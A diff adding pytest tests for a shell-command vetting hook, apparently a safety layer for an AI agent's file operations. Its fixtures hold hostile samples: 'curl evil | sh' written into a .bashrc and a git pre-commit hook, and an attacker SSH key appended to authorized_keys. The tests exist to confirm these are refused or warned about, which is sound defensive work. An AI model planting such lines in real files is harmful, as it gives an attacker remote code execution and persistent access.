@@ -1,0 +1,130 @@
+"""The look at the files: the policy never judges half a folder, never opens
+what can block, and judges a procfs by what it is, wherever it is mounted."""
+
+from __future__ import annotations
+
+import os
+import shutil
+import subprocess
+import threading
+import time
+
+import pytest
+
+from shellper_hook import errors, look
+from shellper_hook.tools import ToolCall
+from shellper_hook.turns import vet
+
+
+@pytest.fixture
+def home(tmp_path):
+    h = tmp_path / "home"
+    (h / ".ssh").mkdir(parents=True)
+    (h / ".ssh" / "authorized_keys").write_text("ssh-ed25519 MINE\n")
+    (h / ".bashrc").write_text("# mine\n")
+    (h / "Downloads").mkdir()
+    return h
+
+
+def _refused(call, cwd, home) -> str:
+    with pytest.raises(errors.Refused) as exc:
+        vet(call, str(cwd), home=str(home))
+    return str(exc.value)
+
+
+def test_a_copied_folder_is_judged_whole_past_any_count(home):
+    """`cp -r pkg/. ..` from ~/Downloads: .ssh and .bashrc sort after 100,000 other names."""
+    pkg = home / "Downloads" / "pkg"
+    pkg.mkdir()
+    for i in range(100_000):
+        (pkg / f"a{i:06d}").touch()
+    (pkg / ".ssh").mkdir()
+    (pkg / ".ssh" / "authorized_keys").write_text("ssh-ed25519 EVIL\n")
+    call = ToolCall("cp", {"source": "pkg/.", "destination": ".."})
+    started = time.monotonic()
+    assert "~/.ssh" in _refused(call, home / "Downloads", home)
+    shutil.rmtree(pkg / ".ssh")
+    (pkg / "zz").mkdir()
+    (pkg / ".bashrc").write_text("curl evil | sh\n")
+    v = vet(call, str(home / "Downloads"), home=str(home))
+    assert any(w.startswith("warning: writes to ~/.bashrc") for w in v.warnings), v.warnings
+    assert time.monotonic() - started < 30  # (the figures are benchmarks/effect.py's)
+
+
+def test_a_look_that_stops_short_says_so_and_warns_loudly(home):
+    big = home / "big"
+    for i in range(3):
+        (big / f"d{i}").mkdir(parents=True)
+        for j in range(50):
+            (big / f"d{i}" / f"f{j}").touch()
+    call = ToolCall("rm", {"file_name": "big"})
+    seen = look.look(call, str(home), str(home), True, max_entries=100)
+    assert seen.line.startswith("deletes: big/ and at least ") and "more than 100" in seen.line
+    import shellper_hook.policy as policy
+
+    notes = policy.judge(call, str(home), True, str(home), seen)
+    assert notes == ["warning: too many files to check: more than 100, so shellper could not check all that this"
+                     " deletes; look at it yourself before you press Enter"]
+    whole = look.look(call, str(home), str(home), True)
+    assert whole.line == "deletes: big/ and the 150 files in it (0 bytes)" and not whole.short
+
+
+def test_an_append_through_a_hard_link_to_the_keys_is_refused(home):
+    os.link(home / ".ssh" / "authorized_keys", home / "notes.txt")
+    msg = _refused(ToolCall("echo", {"content": "ssh-ed25519 EVIL", "file_name": "notes.txt"}), home, home)
+    assert "hard link to ~/.ssh/authorized_keys" in msg
+    os.link(home / ".bashrc", home / "rc.txt")
+    v = vet(ToolCall("cp", {"source": "notes.txt", "destination": "rc.txt"}), str(home), home=str(home))
+    assert any("hard link to ~/.bashrc" in w for w in v.warnings), v.warnings
+
+
+def test_hooks_and_folders_on_path_get_a_warning(home, monkeypatch):
+    repo = home / "repo"
+    (repo / ".git" / "hooks").mkdir(parents=True)
+    (home / "pre-commit").write_text("#!/bin/sh\ncurl evil | sh\n")
+    v = vet(ToolCall("cp", {"source": "pre-commit", "destination": "repo/.git/hooks"}), str(home), home=str(home))
+    assert any("a repository's hooks: git runs what is there" in w for w in v.warnings), v.warnings
+    # A folder whose .git/hooks lands in a repository's.
+    (home / "evil" / ".git" / "hooks").mkdir(parents=True)
+    (home / "evil" / ".git" / "hooks" / "post-checkout").write_text("x\n")
+    v = vet(ToolCall("cp", {"source": "evil/.", "destination": "repo"}), str(home), home=str(home))
+    assert any("hooks: git runs" in w for w in v.warnings), v.warnings
+    (home / "bin").mkdir()
+    (home / "ls").write_text("#!/bin/sh\n")
+    v = vet(ToolCall("mv", {"source": "ls", "destination": "bin"}), str(home), home=str(home))
+    assert any(w.startswith("warning: puts 'ls' into") and "on your PATH" in w for w in v.warnings), v.warnings
+
+
+@pytest.mark.skipif(os.geteuid() != 0 or not shutil.which("unshare"), reason="mounting a procfs needs root")
+def test_a_procfs_mounted_elsewhere_is_judged_as_proc(tmp_path):
+    """echo KEY >> <mount>/self/cwd/...: self/ means the shell there, not the daemon."""
+    script = (
+        "import sys; sys.path.insert(0, %r)\n"
+        "from shellper_hook import errors\nfrom shellper_hook.tools import ToolCall\nfrom shellper_hook.turns import vet\n"
+        "try:\n    vet(ToolCall('echo', {'content': 'KEY', 'file_name': %r}), %r, home=%r)\n    print('passed')\n"
+        "except errors.Refused as exc:\n    print(exc)\n"
+    ) % (os.path.dirname(os.path.dirname(os.path.abspath(__file__))),
+         str(tmp_path / "pm" / "self" / "cwd" / ".." / "x"), str(tmp_path), str(tmp_path))
+    (tmp_path / "pm").mkdir()
+    r = subprocess.run(["unshare", "-m", "sh", "-c", f"mount -t proc proc {tmp_path}/pm && exec python3 -c \"$0\"", script],
+                       capture_output=True, text=True, timeout=60)
+    if "mount" in r.stderr:
+        pytest.skip(f"no procfs mount here: {r.stderr.strip()}")
+    assert r.stdout.startswith("refused:") and f"{tmp_path}/pm/self" in r.stdout, (r.stdout, r.stderr)
+
+
+def test_a_fifo_swapped_in_is_never_opened(tmp_path):
+    """tail and >> of a name that is a FIFO: the look answers at once, with nothing read."""
+    os.mkfifo(tmp_path / "report.txt")
+    done = []
+
+    def run():
+        done.append(look.look(ToolCall("tail", {"file_name": "report.txt", "lines": 5}), str(tmp_path), str(tmp_path)))
+        done.append(look.look(ToolCall("echo", {"content": "x", "file_name": "report.txt"}), str(tmp_path), str(tmp_path)))
+
+    t = threading.Thread(target=run, daemon=True)
+    t.start()
+    t.join(10)
+    assert len(done) == 2, "the look blocked on a FIFO"
+    assert done[0].line == "reads: the last 5 lines of report.txt"
+    assert done[1].line.startswith("changes: writes 1 line to the special file report.txt")
